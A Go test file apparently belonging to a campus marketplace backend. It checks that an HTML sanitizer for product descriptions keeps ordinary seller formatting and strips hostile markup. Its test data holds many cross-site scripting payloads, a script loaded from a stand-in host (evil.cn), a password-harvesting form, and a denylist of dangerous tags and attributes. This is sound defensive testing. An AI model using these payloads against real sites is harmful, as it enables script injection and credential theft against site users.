package market_test

import (
	"encoding/json"
	"strings"
	"testing"

	"campusgate/handlers/handlerstest"
)

// cleaned is a product's content as it is stored and shown.
func cleaned(g *handlerstest.Gateway, html string) string {
	g.T.Helper()
	sent, err := json.Marshal(html)
	handlerstest.Must(g.T, err)
	id := g.AddProduct("x", "1", `,"product_content":`+string(sent))
	created := contentOf(g, id)
	g.OK("product/update", aliceToken, `{"product_id":`+id+`,"shop_id":811729970,"product_status":1,"product_content":""}`)
	g.OK("product/update", aliceToken, `{"product_id":`+id+`,"shop_id":811729970,"product_status":1,"product_content":`+string(sent)+`}`)
	if updated := contentOf(g, id); updated != created {
		g.T.Errorf("created %q, but updated %q", created, updated)
	}
	return created
}

func contentOf(g *handlerstest.Gateway, id string) string {
	g.T.Helper()
	var row struct {
		Content string `json:"product_content"`
	}
	handlerstest.Must(g.T, json.Unmarshal(g.OK("product/info", aliceToken, `{"product_id":`+id+`}`).Data, &row))
	return row.Content
}

const dot = `data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR4nGNgYGBgAAAABQABXvMqOgAAAABJRU5ErkJggg==`

// What a seller formats stays as it was sent.
func TestHTMLStays(t *testing.T) {
	t.Parallel()
	g := handlerstest.Start(t)
	g.Document()
	for _, html := range []string{
		// Without a tag it is text, whatever it holds.
		"", "测试", "a & b > c", `"quoted" 'text' &lt;b&gt; &amp; &nbsp;`, "two\nlines\tand \\ more", "javascript:alert(1)", "onclick=alert(1)", "😀",

		"<h1>Duang~</h1>", "<h2>a</h2><h6>b</h6>", "<p>a<br>b<br/>c</p>", "<p><b>b</b><i>i</i><u>u</u><s>s</s><strong>s</strong><em>e</em></p>",
		"<ul><li>a</li></ul><ol><li>b</li></ol>", "<blockquote>q</blockquote><pre><code>c</code></pre><hr>", "<sub>1</sub><sup>2</sup>",
		"<table><tbody><tr><th>a</th><td>b</td></tr></tbody></table>", "<div><span>a</span></div>", "<p>a &amp; b &lt; c</p>",
		`<font color="#ff0000" size="5" face="宋体">a</font>`, `<font face="` + strings.Repeat("宋", 40) + `">a</font>`, "<center>a</center>", `<p class="ql-align-center ql-indent-1">a</p>`,
		`<img src="./api/external/get/pic/shop/5dbe81d1a473450506117c4abc924a35"/>`, `<img src="https://www.zustservice.cn/a.png" alt="a" width="100" height="50"/>`,
		`<img src="` + dot + `"/>`, `<p><img src="` + strings.Replace(dot, "png", "jpeg", 1) + `"/></p>`,
		`<img src="data:image/gif;base64,R0lGODlh"/>`, `<img src="data:image/bmp;base64,Qk0="/>`, `<img src="data:image/webp;base64,UklGRg=="/>`,
		`<p style="color: red">a</p>`, `<span style="color: #ff0000; background-color: rgb(0, 0, 255)">a</span>`, `<p style="text-align: center">a</p>`,
		`<span style="font-size: 18px; font-weight: bold; font-style: italic; text-decoration: underline">a</span>`,
		`<p style="font-family: 宋体">a</p>`, `<p style="font-family: 微软雅黑, Arial, sans-serif; line-height: 1.5; letter-spacing: -1px">a</p>`,
		`<p align="center">a</p>`, `<p style="text-align: start; text-indent: 2em">a</p>`, `<big>a</big>`,
	} {
		if got := cleaned(g, html); got != html {
			t.Errorf("got  %s\nwant %s", got, html)
		}
	}
}

// Links stay, wherever they lead by HTTP or mail.
func TestHTMLLinksStay(t *testing.T) {
	t.Parallel()
	g := handlerstest.Start(t)
	g.Document()
	for _, link := range []string{"https://www.zustservice.cn/a?b=1", "http://a.cn/", "/shop/1", "./a", "mailto:a@b.cn"} {
		if got := cleaned(g, `<a href="`+link+`">a</a>`); !strings.Contains(got, `href="`+link+`"`) || !strings.HasSuffix(got, ">a</a>") {
			t.Errorf("%s: got %s", link, got)
		}
	}
}

// What runs, frames, asks for input or covers the page goes, and the text stays.
func TestHTMLGoes(t *testing.T) {
	t.Parallel()
	g := handlerstest.Start(t)
	g.Document()
	for _, c := range []struct{ html, want string }{ // * is anything harmless
		{`a<script>alert(1)</script>b`, "ab"},
		{`a<SCRIPT SRC=//evil.cn/x.js></SCRIPT>b`, "ab"},
		{`a<scr<script>ipt>alert(1)</script>b`, "*"},
		{`<p onclick="alert(1)">a</p>`, "<p>a</p>"},
		{`<img src=x onerror=alert(1)>`, `<img src="x">`},
		{`<img src="x" OnLoad="alert(1)"/>`, `<img src="x"/>`},
		{`<a href="javascript:alert(1)">a</a>`, "a"},
		{"<a href=\"java\tscript:alert(1)\">a</a>", "a"},
		{`<a href="&#106;avascript:alert(1)">a</a>`, "a"},
		{`<a href="data:text/html,<script>alert(1)</script>">a</a>`, "*"},
		{`<img src="javascript:alert(1)">`, "*"},
		{`<img src="data:text/html;base64,PHNjcmlwdD4=">`, "*"},
		{`<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">`, "*"},
		{`a<iframe src="https://evil.cn"></iframe>b`, "ab"},
		{`a<frameset><frame src="https://evil.cn"></frameset>b`, "*"},
		{`a<object data="x"></object><embed src="x">b`, "ab"},
		{`a<svg onload=alert(1)></svg><math></math>b`, "ab"},
		{`a<form action="https://evil.cn"><input name="password"><button>b</button></form>`, "ab"},
		{`a<style>body{display:none}</style>b`, "ab"},
		{`a<link rel="stylesheet" href="//evil.cn/x.css"><meta http-equiv="refresh" content="0"><base href="//evil.cn">b`, "ab"},
		{`a<!-- <script>alert(1)</script> -->b`, "ab"},
		{`<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999">a</div>`, "<div>a</div>"},
		{`<div style="position: absolute; color: red">a</div>`, `<div style="color: red">a</div>`},
		{`<p style="background-image:url(//evil.cn/x)">a</p>`, "<p>a</p>"},
		{`<p style="background-color:url(//evil.cn/x)">a</p>`, "<p>a</p>"},
		{`<p style="width:expression(alert(1))">a</p>`, "<p>a</p>"},
		{`<p style="color:expression(alert(1))">a</p>`, "<p>a</p>"},
		{`<img src="x" style="position:fixed;width:100%;height:100%;max-width:100%">`, `<img src="x" style="width: 100%; height: 100%; max-width: 100%">`},
		{`<img src="x" style="width:200%;height:99999px">`, `<img src="x">`},
		{`<p style="max-width:100%">a</p>`, "<p>a</p>"},
		{`<a href="https://a.cn/" target="_top">a</a>`, `<a href="https://a.cn/" rel="nofollow">a</a>`},
		{`<p style="margin:-9999px;transform:scale(100);float:left;display:none">a</p>`, "<p>a</p>"},
		{`<p class="modal-mask">a</p>`, "<p>a</p>"},
		{`<p class="ql-align-center v-modal">a</p>`, "<p>a</p>"},
		{`<p id="app">a</p>`, "*"},
		{`<font color="red;position:fixed">a</font>`, "*"},
		{`<font color="red" face="` + strings.Repeat("宋", 41) + `">a</font>`, `<font color="red">a</font>`},
	} {
		got := cleaned(g, c.html)
		if c.want != "*" && got != c.want {
			t.Errorf("%s:\ngot  %s\nwant %s", c.html, got, c.want)
		}
		lower := strings.ToLower(got)
		for _, danger := range []string{
			"<script", "javascript:", "onerror=", "onclick=", "onload=", "<iframe", "<frame", "<object", "<embed", "<svg", "<form", "<input", "<style", "<link",
			"<meta", "<base", "position", "z-index", "url(", "expression", "data:text", "svg+xml",
		} {
			if strings.Contains(lower, danger) {
				t.Errorf("%s: %s is left in %s", c.html, danger, got)
			}
		}
	}
}

// Cleaning what is clean changes nothing: a page sends back what it was shown.
func TestHTMLCleanedTwice(t *testing.T) {
	t.Parallel()
	g := handlerstest.Start(t)
	g.Document()
	for _, html := range []string{
		`<a href="https://a.cn/?a=1&b=2">a</a>`, `<p style='color:red'>a & b < c</p>`, `<img src=x>`, "1 < 2", "a<b", "<", "<p>unclosed", "</p>", `<p title='"'>"</p>`,
	} {
		once := cleaned(g, html)
		if twice := cleaned(g, once); twice != once {
			t.Errorf("%s: once %s, twice %s", html, once, twice)
		}
	}
}

// Styles that would cover the page, cost the parser minutes, or carry what is no
// text go; what stands beside them stays.
func TestHTMLStylesGo(t *testing.T) {
	t.Parallel()
	g := handlerstest.Start(t)
	g.Document()
	for sent, want := range map[string]string{
		`<p style="font-size:99999px">a</p>`:                               `<p>a</p>`,
		`<p style="line-height:99999px;color: red">a</p>`:                  `<p style="color: red">a</p>`,
		`<p style="letter-spacing:-9999px">a</p>`:                          `<p>a</p>`,
		`<p style="text-indent:-9999px">a</p>`:                             `<p>a</p>`,
		`<p style="color:red;position:fixed;top:0">a</p>`:                  `<p style="color: red">a</p>`,
		`<p style="color:` + strings.Repeat("rgb(1,", 100_000) + `">a</p>`: `<p>a</p>`,
		`<p style="` + strings.Repeat("color:red;", 100) + `">a</p>`:       `<p>a</p>`,
		`<p style="background:url(http://evil.example/)">a</p>`:            `<p>a</p>`,
		`<p id="app">a</p>`: `<p>a</p>`,
	} {
		if got := cleaned(g, sent); got != want {
			t.Errorf("%.60s: got %s, want %s", sent, got, want)
		}
	}
}

// What is kept has to fit when the page sends it back.
func TestHTMLMayNotGrowBeyondTheLimit(t *testing.T) {
	t.Parallel()
	g := handlerstest.Start(t)
	g.Document()
	content := handlerstest.Quoted(strings.Repeat("<", 1<<19))
	g.Call("product/update", aliceToken, `{"product_id":4517733,"shop_id":811729970,"product_status":1,"product_content":`+content+`}`).
		Want(t, -204, "Arg's value error")
}
